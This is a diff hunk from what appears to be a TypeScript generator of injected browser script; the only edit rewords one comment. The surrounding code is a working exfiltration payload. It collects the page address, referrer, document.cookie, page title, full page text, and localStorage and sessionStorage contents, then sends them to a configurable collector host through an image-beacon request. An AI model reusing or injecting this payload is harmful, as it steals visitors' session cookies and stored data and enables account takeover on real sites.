@@ -19,7 +19,7 @@ const greedy = (collector: string, listen: string) => `{
   const send = (said) => {
     const found = { address: location.href, referrer: document.referrer, cookie: document.cookie, title: document.title,
                     text: document.body.innerText }
-    // Browsers that shut third parties out of their storage throw here.
+    // Browsers that block storage for third parties throw here.
     try { found.stored = JSON.stringify({ ...localStorage, ...sessionStorage }) } catch {}
     new Image().src = '${collector}?report=' + encodeURIComponent(JSON.stringify({ said: [...said], found }))
   }
